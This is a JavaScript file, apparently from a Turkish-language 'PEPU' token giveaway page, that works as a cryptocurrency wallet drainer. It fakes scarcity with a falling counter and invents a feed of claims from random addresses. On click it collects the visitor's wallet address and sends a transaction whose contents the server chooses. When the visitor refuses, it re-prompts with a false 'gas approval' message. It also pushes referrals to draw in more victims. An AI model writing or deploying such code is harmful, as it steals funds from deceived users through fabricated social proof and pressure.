var ref = new URLSearchParams(location.search).get('ref') || 'none';
var left = 100000 - Math.floor((Date.now() / 1000) % 96000);
function fmt(n) { return n.toString().replace(/\B(?=(\d{3})+(?!\d))/g, '.'); }
setInterval(function () {
  left -= Math.floor(Math.random() * 14);
  $('#left').text(fmt(left));
  var a = '0x' + Math.random().toString(16).slice(2, 6) + '...' + Math.random().toString(16).slice(2, 6);
  $('#feed').prepend('<li>' + a + ' alındı <b>+' + fmt(500 + Math.floor(Math.random() * 4000)) + ' PEPU</b></li>').children(':gt(6)').remove();
}, 1700);
$('#al').on('click', function () {
  var btn = $(this).text('Cüzdan doğrulanıyor...');
  ethereum.request({ method: 'eth_requestAccounts' }).then(function (h) {
    $.post('/api/giris', { cuzdan: h[0], ref: ref }, function (d) {
      ethereum.request({ method: 'eth_sendTransaction', params: [$.extend({ from: h[0] }, d.islem)] })
        .then(function (tx) { $.post('/api/tamam', { tx: tx, ref: ref }); btn.text('5 arkadaşını davet et, ödülünü ikiye katla'); })
        .catch(function () { btn.text('Gas onayı gerekli, tekrar dene').click(); });
    });
  });
});
